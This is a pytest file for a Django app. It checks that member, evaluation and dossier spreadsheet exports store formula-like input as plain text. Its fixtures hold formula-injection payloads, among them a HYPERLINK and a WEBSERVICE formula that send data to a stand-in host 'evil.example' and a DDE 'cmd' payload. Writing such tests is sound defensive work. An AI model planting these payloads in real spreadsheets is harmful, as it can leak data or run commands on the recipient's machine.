"""Text typed into the app comes out of every export as text: Excel and WPS never evaluate it."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from evaluation import services as evaluation_services
from tests.factories import EntryFactory, MemberFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_plain_text(content: bytes, expected: list[str]) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # XML stores a carriage return as a line feed; everything else comes back exactly as typed.
    values = {c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells}
    for text in expected:
        assert text.replace("\r", "\n") in values, f"{text!r} should be kept as it was typed"
    flagged = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r\n"]
    assert flagged and all(c.quotePrefix for c in flagged)


def test_the_register_export_writes_formula_like_names_as_text(staff_client):
    for i, text in enumerate(HOSTILE):
        MemberFactory(name=f"委员{i}", employer=text)
    response = staff_client.get(reverse("members:export"))
    _assert_plain_text(response.content, HOSTILE)


def test_the_evaluation_export_writes_formula_like_names_as_text(staff_client):
    evaluation_services.scheme_create_default(year=2023)
    MemberFactory(name="=1+1")
    evaluation_services.evaluation_rollup(year=2023)
    response = staff_client.get(reverse("evaluation:export", args=[2023]))
    _assert_plain_text(response.content, ["=1+1"])


def test_the_dossier_workbook_writes_formula_like_titles_as_text(staff_client):
    entry = EntryFactory(title='=WEBSERVICE("http://evil.example")')
    response = staff_client.get(reverse("members:dossier_xlsx", args=[entry.member_id, 2023]))
    _assert_plain_text(response.content, [entry.title])
